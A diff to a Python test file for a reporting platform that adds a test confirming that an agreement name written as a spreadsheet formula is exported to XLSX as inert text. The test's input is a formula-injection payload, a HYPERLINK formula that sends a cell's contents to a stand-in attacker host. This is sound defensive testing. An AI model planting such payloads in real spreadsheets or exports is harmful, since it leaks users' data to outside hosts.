@@ -4,14 +4,15 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
 
 import openpyxl
 import pytest
 
-from nutriplat.clock import simulated_day
 from nutriplat.clients.models import Client, Consent, Measurement, StatusChange
+from nutriplat.clock import simulated_day
 from nutriplat.indicators.disclosure import exposed
 from nutriplat.indicators.models import Settlement
 from nutriplat.indicators.report import Row
@@ -274,3 +275,17 @@ def test_the_monthly_snapshot_job_freezes_each_reporting_period_once(http, parti
     [snapshot] = http.get(f"/api/v1/agreements/{agreement['id']}/snapshots", headers=funder.headers).json
     coverage = next(r for r in snapshot["rows"] if r["indicator"] == "screening_coverage" and not r["disaggregation"])
     assert snapshot["period"] == "2026Q3" and coverage["numerator"] == "14" and coverage["denominator"] == "19"
+
+
+def test_an_agreement_named_as_a_formula_stays_text_in_the_workbook(http, parties, pilot):
+    admin, funder, _ = parties
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    made = http.post("/api/v1/agreements", headers=admin.headers,
+                     json=AGREEMENT | {"cofinancer_id": funder.organisation_id, "name": name}).json
+    data = report(http, funder, made["id"], period="2026Q3", format="xlsx").data
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        assert not any("<f>" in package.read(part).decode() for part in package.namelist()
+                       if part.startswith("xl/worksheets/"))
+    about = openpyxl.load_workbook(io.BytesIO(data))["About"]
+    cell = next(c for row in about.iter_rows() for c in row if c.value == name)
+    assert cell.data_type == "s" and cell.quotePrefix
